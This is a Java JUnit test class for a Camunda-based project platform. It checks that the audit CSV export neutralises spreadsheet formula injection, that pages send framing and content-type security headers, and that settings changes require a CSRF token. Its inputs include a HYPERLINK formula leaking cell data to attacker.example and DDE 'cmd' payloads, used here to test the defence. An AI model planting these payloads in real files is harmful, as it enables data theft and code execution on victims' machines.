package io.xborder.sop.security;

import static org.assertj.core.api.Assertions.assertThat;

import io.xborder.sop.PlatformHttp;
import io.xborder.sop.PlatformTest;
import io.xborder.sop.kickoff.ProjectKickoff;
import java.io.IOException;
import java.io.StringReader;
import java.net.CookieManager;
import java.net.HttpCookie;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.camunda.bpm.engine.IdentityService;
import org.camunda.bpm.engine.RuntimeService;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.beans.factory.annotation.Autowired;

/**
 * An attacker who can put text into a project (a variable, a reason) waits for a manager to open
 * the audit export in a spreadsheet; frames the product's pages in a site of their own; or lures a
 * logged-in user's browser into changing their settings. None of it works.
 */
@PlatformTest
class ExportAndPageAttackTest {

  private static final String HYPERLINK = "=HYPERLINK(\"http://attacker.example/?leak=\"&A1,\"Details\")";
  private static final String VICTIM = "zhangqiang";
  /** The user-info key of the mail language (notification.Recipients.LANGUAGE). */
  private static final String LANGUAGE = "language";

  @Autowired PlatformHttp http;
  @Autowired RuntimeService runtime;
  @Autowired IdentityService identity;

  @AfterEach
  void victimBackToDefaults() {
    identity.deleteUserInfo(VICTIM, LANGUAGE);
  }

  @Test
  void auditCsvCellsThatASpreadsheetWouldRunAreNeutralisedAndStillReadBack() throws IOException {
    String businessKey = "CSV-INJECT-" + UUID.randomUUID().toString().substring(0, 8);
    String project = runtime.startProcessInstanceByKey(ProjectKickoff.PROCESS_KEY, businessKey,
        Map.of(ProjectKickoff.PROJECT_NAME, "Spreadsheet bait")).getId();
    List<String> formulaNames = List.of("+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1", "\r=1+1", "＝HYPERLINK(\"http://attacker.example\")");
    formulaNames.forEach(name -> runtime.setVariable(project, name, "x"));
    runtime.deleteProcessInstance(project, HYPERLINK);

    HttpResponse<String> export = http.get("/reports/audit/" + businessKey + ".csv", "zhoujing");

    assertThat(export.statusCode()).isEqualTo(200);
    assertThat(export.body()).as("no cell begins with a formula character, quoted or not")
        .doesNotContainPattern("(^|[,\\n])\"?[=+\\-@\\t\\r＝＋－＠]");
    List<CSVRecord> rows = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
        .parse(new StringReader(export.body())).getRecords();
    assertThat(rows).filteredOn(row -> row.get("event").equals("project ended")).singleElement()
        .satisfies(row -> assertThat(row.get("detail")).isEqualTo("'" + HYPERLINK));
    assertThat(rows).filteredOn(row -> row.get("event").equals("variable set")).extracting(row -> row.get("detail"))
        .containsAll(formulaNames.stream().map(name -> "'" + name + " = x").toList())
        .contains("projectName = Spreadsheet bait");
    assertThat(rows.get(0).get("event")).isEqualTo("project started");
  }

  @ParameterizedTest
  @ValueSource(strings = {"/reports/board", "/reports/board.js", "/reports/health?from=2024-01-01&to=2024-01-31",
      "/notifications/settings"})
  void theProductsPagesAndAnswersForbidFramingSniffingAndForeignCode(String path) {
    HttpResponse<String> page = http.get(path, "zhoujing");

    assertThat(page.statusCode()).isEqualTo(200);
    assertProductHeaders(page);
  }

  @ParameterizedTest
  @ValueSource(strings = {"/", "/reports/board", "/no-such-page"})
  void redirectsAndErrorPagesShownToAStrangerCarryTheSameHeaders(String path) {
    HttpResponse<String> page = http.send(HttpRequest.newBuilder(URI.create(http.url(path))).header("Accept", "text/html").GET());

    assertThat(page.statusCode()).isIn(302, 401, 404);
    assertProductHeaders(page);
  }

  @ParameterizedTest
  @ValueSource(strings = {"/camunda/app/cockpit/default/", "/camunda/app/tasklist/default/",
      "/camunda/api/cockpit/plugin/xborder-reporting/static/app/plugin.js"})
  void camundasWebAppsAndThePluginSendTheirOwnPolicyWithNoFraming(String path) {
    HttpResponse<String> page = http.get(path, null);

    assertThat(page.statusCode()).isEqualTo(200);
    assertThat(page.headers().firstValue("Content-Security-Policy")).hasValueSatisfying(
        policy -> assertThat(policy).contains("frame-ancestors 'none'").contains("object-src 'none'"));
    assertThat(page.headers().firstValue("X-Content-Type-Options")).contains("nosniff");
  }

  @Test
  void aSessionWithoutItsCsrfTokenChangesNoSettings() throws Exception {
    PlatformHttp.WebAppSession session = http.webAppSession(VICTIM, "tasklist");
    assertThat(session.loginStatus()).isEqualTo(200);
    String token = csrfToken(session);

    HttpResponse<String> withoutToken = putSettings(session, null);
    HttpResponse<String> withWrongToken = putSettings(session, "guessed-" + UUID.randomUUID());

    assertThat(withoutToken.statusCode()).isEqualTo(403);
    assertThat(withoutToken.body()).contains("X-XSRF-TOKEN");
    assertThat(withWrongToken.statusCode()).isEqualTo(403);
    assertThat(identity.getUserInfo(VICTIM, LANGUAGE)).as("the victim's mail language").isNull();
    assertThat(session.client().send(HttpRequest.newBuilder(URI.create(http.url("/reports/board/projects")))
        .POST(HttpRequest.BodyPublishers.noBody()).build(), HttpResponse.BodyHandlers.ofString()).statusCode())
        .as("any change under /reports with the session and no token").isEqualTo(403);

    HttpResponse<String> withToken = putSettings(session, token);

    assertThat(withToken.statusCode()).as(withToken.body()).isEqualTo(200);
    assertThat(identity.getUserInfo(VICTIM, LANGUAGE)).isEqualTo("en");
  }

  @ParameterizedTest
  @CsvSource(delimiter = '|', value = {
      "/reports/health?from=%2B999999999-12-31&to=%2B999999999-12-31",
      "/reports/people?from=-999999999-01-01&to=2024-01-31",
      "/reports/health?from=1999-12-31&to=2000-01-05",
      "/reports/people?from=2100-12-01&to=2101-01-01"})
  void reportDatesOutsideTheCenturyAreRefusedWithTheReason(String path) {
    HttpResponse<String> response = http.get(path, "zhoujing");

    assertThat(response.statusCode()).isEqualTo(400);
    assertThat(response.body()).contains("is outside 2000-01-01 to 2100-12-31");
  }

  private HttpResponse<String> putSettings(PlatformHttp.WebAppSession session, String token)
      throws IOException, InterruptedException {
    HttpRequest.Builder put = HttpRequest.newBuilder(URI.create(http.url("/notifications/settings")))
        .header("Content-Type", "application/json").PUT(HttpRequest.BodyPublishers.ofString("{\"language\": \"en\"}"));
    if (token != null) {
      put.header("X-XSRF-TOKEN", token);
    }
    return session.client().send(put.build(), HttpResponse.BodyHandlers.ofString());
  }

  /** As Tasklist's page has it after the login: the login starts a new session, whose first page load sets the token. */
  private String csrfToken(PlatformHttp.WebAppSession session) throws IOException, InterruptedException {
    HttpClient client = session.client();
    client.send(HttpRequest.newBuilder(URI.create(http.url("/camunda/app/tasklist/default/"))).GET().build(),
        HttpResponse.BodyHandlers.discarding());
    CookieManager cookies = (CookieManager) client.cookieHandler().orElseThrow();
    return cookies.getCookieStore().getCookies().stream().filter(cookie -> cookie.getName().equals("XSRF-TOKEN"))
        .map(HttpCookie::getValue).reduce((first, last) -> last).orElseThrow();
  }

  private static void assertProductHeaders(HttpResponse<String> page) {
    assertThat(page.headers().firstValue("Content-Security-Policy")).hasValueSatisfying(policy -> assertThat(policy)
        .contains("frame-ancestors 'self'").contains("script-src 'self'").doesNotContain("unsafe-inline"));
    assertThat(page.headers().firstValue("X-Content-Type-Options")).contains("nosniff");
    assertThat(page.headers().firstValue("X-Frame-Options")).contains("SAMEORIGIN");
  }
}
